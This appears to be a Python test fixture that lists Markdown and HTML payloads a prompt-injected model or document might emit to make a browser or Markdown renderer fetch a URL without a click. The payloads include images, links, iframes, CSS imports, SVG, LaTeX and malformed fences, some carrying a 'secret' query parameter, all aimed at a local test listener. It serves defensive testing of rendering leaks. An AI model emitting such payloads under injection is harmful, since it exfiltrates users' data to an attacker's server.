"""What a prompt-injected document or model might write to make a browser or a Markdown viewer
fetch a URL with no click: each payload names BASE (a listener on 127.0.0.1 in the browser test), so
any request it causes is counted there. Shared by tests/test_render_uploads.py (rendered to HTML by
markdown-it with linkify) and tests/test_app_browser.py (Chromium, counting requests).
"""

from __future__ import annotations


def payloads(base: str) -> list[str]:
    """`base` is like http://127.0.0.1:PORT; every payload points somewhere under it."""
    host = base.split("://", 1)[1]
    return [
        f"![chart]({base}/img.png?d=secret)",                      # inline image
        f"![a][ref]\n\n[ref]: {base}/ref.png",                     # reference-style image
        f"[click me]({base}/link)",                                # inline link
        f"[b][r2]\n\n[r2]: {base}/ref-link",                       # reference-style link
        f"<{base}/autolink>",                                      # autolink
        f"{base}/bare-url and www.{host}/www",                     # GFM literal autolinks
        f'<img src="{base}/raw-img.png">',                         # raw HTML
        f'<iframe src="{base}/frame"></iframe>',
        f'<link rel="stylesheet" href="{base}/style.css">',
        f"<style>@import url({base}/import.css);</style>",
        f'<div style="background:url({base}/css-url.png)">x</div>',
        f'<svg><image href="{base}/svg.png"/></svg>',
        f'<video poster="{base}/poster.png"></video><audio src="{base}/a.mp3"></audio>',
        f"![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=) [{base}/data]",
        f":red[![x]({base}/directive.png)] :material/home: :blue-background[[y]({base}/bg)]",
        f"$\\href{{{base}/latex}}{{click}}$ and $$\\includegraphics{{{base}/tex.png}}$$",
        f"[[nested]({base}/n1)]({base}/n2) ![![x]({base}/n3)]({base}/n4)",
        f"unbalanced [[[ ]] ![open({base}/unbalanced.png) ] (",
        f"text ```unclosed fence mid-line ![x]({base}/after-fence.png)",
        f"```\nclosed fence\n```\n![after]({base}/after-closed-fence.png)",
        f"``` \n![inside]({base}/inside-unclosed.png)",               # unclosed fence at line start
        f"`code` ![y]({base}/after-code.png) `` `x` `` ![z]({base}/after-double.png)",
        f"&lt;img src={base}/entity.png&gt; &#60;img src=x&#62; ![e]({base}/&#41;.png)",
        f"<{host}/no-scheme> [^1]\n\n[^1]: ![fn]({base}/footnote.png)",
        f"\\![escaped?]({base}/backslash.png) \\\\![double]({base}/double-backslash.png)",
        f"> quote ![q]({base}/quote.png)\n- item ![l]({base}/list.png)\n    ![code]({base}/indented.png)",
    ]
